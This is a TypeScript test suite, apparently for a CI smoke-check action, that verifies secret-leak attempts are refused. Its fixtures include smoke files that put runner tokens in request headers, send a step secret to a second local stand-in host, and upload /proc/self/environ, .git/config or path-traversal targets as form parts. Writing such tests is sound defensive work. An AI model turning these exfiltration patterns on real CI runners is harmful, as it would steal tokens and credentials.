import assert from 'node:assert/strict'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startStandIn } from '../../../test/cloud/kit/stand-in.ts'
import type { FaultCase } from '../fault-case.ts'
import { complaintOf, leftBy, runAction } from './run-action.ts'

const VALUE = 'runner-token-0123456789abcdef'
const OWN = 'own-secret-0123456789abcdef'
const NAMES = [
  'ACTIONS_RUNTIME_TOKEN',
  'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  'GITHUB_TOKEN',
  'GH_TOKEN',
  'RUNNER_TEMP',
  'INPUT_GITHUB-TOKEN',
]

const asked = async (checks: (url: string, other: string) => string, inputs: Record<string, string> = {}) => {
  const answer = () => ({ status: 200, body: { ok: true } })
  await using other = await startStandIn({ routes: {}, unknownRoute: answer })
  await using api = await startStandIn({ routes: {}, unknownRoute: answer })
  const names = NAMES.filter(name => name !== 'RUNNER_TEMP').map(name => [name, VALUE])
  const run = await runAction('smoke-check', {
    inputs: { 'base-url': api.url, timeout: '5s', checks: checks(api.url, other.url), ...inputs },
    environment: { ...Object.fromEntries(names), OUR_KEY: OWN },
  })
  const sent = (server: typeof api) =>
    server.requests.filter(({ headers, query }) =>
      [VALUE, OWN].some(value => `${JSON.stringify(headers)} ${query}`.includes(value)),
    ).length
  return { run, atHome: sent(api), elsewhere: sent(other) }
}

const check = (name: string, url = '/') =>
  `version: 1\nchecks:\n  - { get: "${url}", headers: { x-key: "\${${name}}" } }`

const ownTokens: FaultCase[] = NAMES.map(name => ({
  fault: `a smoke file names ${name}`,
  expected: 'refused, nothing sent',
  async run() {
    const { run, atHome, elsewhere } = await asked(() => check(name))
    assert.deepEqual([run.exitCode, atHome, elsewhere], [1, 0, 0], run.log)
    assert.ok(!leftBy(run).includes(VALUE))
    return complaintOf(run)
  },
}))

const toAnybody: FaultCase = {
  fault: 'a smoke file sends a secret of the step to a host of its own choice',
  expected: 'refused, nothing sent there',
  async run() {
    const { run, elsewhere } = await asked((_url, other) =>
      check('OUR_KEY', `${other.replace('127.0.0.1', 'localhost')}/`),
    )
    assert.deepEqual([run.exitCode, elsewhere], [1, 0], run.log)
    return complaintOf(run)
  },
}

/** A smoke file in the checkout, which sends a file as a part of a form. */
const sending = async (file: string) => {
  const workspace = await mkdtemp(join(tmpdir(), 'smoke-'))
  try {
    await mkdir(join(workspace, 'repository/.git'), { recursive: true })
    await writeFile(join(workspace, 'repository/.git/config'), `extraheader = ${VALUE}`)
    await writeFile(join(workspace, 'beside.txt'), VALUE)
    await writeFile(join(workspace, 'repository/part.txt'), 'a part of the form')
    await using api = await startStandIn({ routes: {}, unknownRoute: () => ({ status: 200, body: {} }) })
    const checks = `version: 1\nchecks:\n  - { post: "/", multipart: { part: { file: "${file}" } } }\n`
    await writeFile(join(workspace, 'repository/smoke.yml'), checks)
    const run = await runAction('smoke-check', {
      inputs: { 'base-url': api.url, timeout: '5s', checks: 'smoke.yml' },
      environment: { GITHUB_TOKEN: VALUE },
      folder: join(workspace, 'repository'),
    })
    return { run, bodies: api.requests.map(({ body }) => String(body)) }
  } finally {
    await rm(workspace, { recursive: true })
  }
}

const sentFiles: FaultCase[] = [
  '/proc/self/environ',
  '/proc/self/../self/environ',
  '../beside.txt',
  '.git/config',
  'x/../.git/config',
].map(file => ({
  fault: `a smoke file sends ${file} as a part of a form`,
  expected: 'refused, nothing sent',
  async run() {
    const { run, bodies } = await sending(file)
    assert.deepEqual([run.exitCode, bodies], [1, []], run.log)
    assert.ok(!leftBy(run).includes(VALUE))
    return complaintOf(run)
  },
}))

const honestPart: FaultCase = {
  fault: 'none: a smoke file sends a file of the repository as a part of a form',
  expected: 'passed, sent once',
  async run() {
    const { run, bodies } = await sending('part.txt')
    assert.deepEqual([run.exitCode, bodies.length], [0, 1], run.log)
    assert.ok(bodies[0]?.includes('a part of the form'))
    return 'passed, sent once'
  },
}

const narrowed: FaultCase = {
  fault: 'a smoke file names a variable that `variables` does not',
  expected: 'refused, nothing sent',
  async run() {
    const { run, atHome } = await asked(() => check('OUR_KEY'), { variables: 'ANOTHER' })
    assert.deepEqual([run.exitCode, atHome], [1, 0], run.log)
    return complaintOf(run)
  },
}

const honest: FaultCase = {
  fault: 'none: a smoke file sends a secret of the step to the service that is looked at',
  expected: 'passed, sent once',
  async run() {
    const { run, atHome } = await asked(() => check('OUR_KEY'))
    assert.deepEqual([run.exitCode, atHome], [0, 1], run.log)
    return 'passed, sent once'
  },
}

/** The environment of the step, as a file of the repository addresses it. */
export const variableAttacks: readonly FaultCase[] = [
  ...ownTokens,
  ...sentFiles,
  toAnybody,
  narrowed,
  honest,
  honestPart,
]
